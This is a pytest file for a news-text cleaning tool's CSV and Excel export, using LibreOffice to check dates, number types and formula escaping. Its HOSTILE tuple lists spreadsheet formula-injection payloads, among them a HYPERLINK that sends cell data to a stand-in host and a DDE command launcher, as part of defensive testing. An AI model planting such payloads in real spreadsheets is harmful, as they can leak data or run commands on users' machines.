"""What LibreOffice makes of our workbooks, and of CSV for Excel: dates, numbers, flags, texts."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from datetime import datetime
from pathlib import Path
from typing import NamedTuple

import pytest
from invented import text
from sheets import Sheet, sheets

import beritaclean

HOSTILE = (
    '=HYPERLINK("http://jahat.id?"&A1,"Klik")',
    "+CMD|' /C calc'!A0",
    "@SUM(1+1)",
    "-1+1",
    "\t=1+1",
    "＝1+1",
    "'=1+1",
)
ROWS = 40


class Asked(NamedTuple):
    """A row of the desk's sheet, and what should stand in ours."""

    title: str
    story: str
    date: str
    when: datetime
    link: str


def row(number: int) -> Asked:
    """As a desk writes it: titles of others, days in four forms."""
    day = number % 28 + 1
    forms = (f"{day}/10/2025 13:05", f"{day}-Okt-25", f"{day} Oktober 2025 07.30", "2025-10-{:02}")
    form = forms[number % 4].format(day)
    clock = {0: (13, 5), 2: (7, 30)}.get(number % 4, (0, 0))
    title = HOSTILE[number] if number < len(HOSTILE) else f"Panen Cabai ke-{number}"
    # without its own head: the sheet says what came out when
    story = "\n".join(text(number).splitlines()[3:])
    link = f"https://www.kompas.com/read/{number}"
    return Asked(title, story, form, datetime(2025, 10, day, *clock), link)  # noqa: DTZ001


@pytest.fixture(scope="module")
def desk(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder with a sheet as Excel saves it in Indonesia."""
    folder = tmp_path_factory.mktemp("meja")
    with (folder / "pantauan.csv").open("w", encoding="utf-8-sig", newline="") as file:
        table = csv.writer(file, delimiter=";")
        table.writerow(("Judul", "Isi", "Tanggal", "Link"))
        table.writerows((one.title, one.story, one.date, one.link) for one in map(row, range(ROWS)))
    return folder


def clean(folder: Path, *argv: str) -> None:
    command = [sys.executable, "-m", "beritaclean", "clean", *argv, "-q"]
    subprocess.run(command, cwd=folder, check=True)


def opened(folder: Path, name: str, to: str, *more: str) -> Path:
    """What LibreOffice saves of a file that it has opened."""
    out = folder / "dibuka"
    # a profile of its own: it does not ask one that is open elsewhere
    profile = f"-env:UserInstallation={(folder / 'profil').as_uri()}"
    command = ["soffice", "--headless", "--norestore", profile, *more]
    subprocess.run(
        [*command, "--convert-to", to, "--outdir", str(out), str(folder / name)],
        check=True,
        capture_output=True,
        timeout=300,
    )
    (made,) = out.glob(f"{Path(name).stem}.{to.partition(':')[0]}")
    return made


def saved(folder: Path, name: str, *more: str) -> Sheet:
    """The sheet that LibreOffice saves again, by its types."""
    (sheet,) = sheets(opened(folder, name, "xlsx:Calc MS Excel 2007 XML", *more))
    return sheet


CSV_OF_INDONESIA = "--infilter=CSV:59,34,76,1,,1057,false,true,false,false,false,0,true"
"""Semicolons, UTF-8, the locale id-ID, numbers and dates told; formulas evaluated.

Source: "Filter Options for CSV" of LibreOffice's help.
"""
COLUMNS = "title,published,complete,kept,characters,text,url"


def test_a_sheet_of_a_desk_becomes_a_workbook(desk: Path) -> None:
    clean(desk, "pantauan.csv", "-o", "hasil.xlsx")
    shown = opened(desk, "hasil.xlsx", "csv:Text - txt - csv (StarCalc):44,34,76,1")
    found = list(csv.DictReader(io.StringIO(shown.read_bytes().decode(), newline="")))
    assert len(found) == ROWS
    for line, asked in zip(found, map(row, range(ROWS)), strict=True):
        assert line["title"] == asked.title.strip()
        assert line["published"] == f"{asked.when:%d/%m/%Y %H:%M}"
        assert line["url"] == asked.link
        story = beritaclean.clean(asked.story, url=asked.link, title=asked.title).text
        assert line["text"] == story


def test_what_a_workbook_holds_has_types(desk: Path) -> None:
    clean(desk, "pantauan.csv", "-o", "jenis.xlsx", "--columns", COLUMNS)
    ods = opened(desk, "jenis.xlsx", "ods")
    assert ods.stat().st_size > 1_000
    sheet = saved(desk, "jenis.xlsx")
    for cells, asked in zip(sheet.rows[1:], map(row, range(ROWS)), strict=True):
        assert cells["B"].when == asked.when
        assert (cells["C"].kind, cells["C"].value) == ("b", "1")
        assert {cells["D"].kind, cells["E"].kind} == {"n"}
        # shared strings, of which LibreOffice makes all texts, and no number
        assert {cells[letter].kind for letter in "AFG"} == {"s"}
    assert sorted(sheet.links.values()) == sorted(row(number).link for number in range(ROWS))


def test_csv_for_excel_opens_in_its_locale(desk: Path) -> None:
    argv = ("--csv-dialect", "excel-id", "--columns", COLUMNS)
    clean(desk, "pantauan.csv", "-o", "lokal.csv", *argv)
    sheet = saved(desk, "lokal.csv", CSV_OF_INDONESIA)
    assert len(sheet.rows) == ROWS + 1
    for cells, asked in zip(sheet.rows[1:], map(row, range(ROWS)), strict=True):
        assert cells["B"].when == asked.when
        assert cells["D"].kind == cells["E"].kind == "n"
        assert 0 < float(cells["D"].value) <= 1
        assert cells["A"].kind == "s"


def test_without_the_apostrophe_it_would_be_a_formula(desk: Path) -> None:
    rows = [{"id": "b1", "text": text(1), "rubrik": "=1+1"}]
    (desk / "k.jsonl").write_text(json.dumps(rows[0]), encoding="utf-8")
    for dialect in ("excel-id", "raw"):
        argv = ("--csv-dialect", dialect, "--carry", "rubrik", "--columns", "rubrik,id")
        clean(desk, "k.jsonl", "-o", f"{dialect}.csv", *argv)
    raw = CSV_OF_INDONESIA.replace("CSV:59", "CSV:44")
    with pytest.raises(AssertionError, match="a formula"):
        saved(desk, "raw.csv", raw)
    assert saved(desk, "excel-id.csv", CSV_OF_INDONESIA).rows[1]["A"].kind == "s"
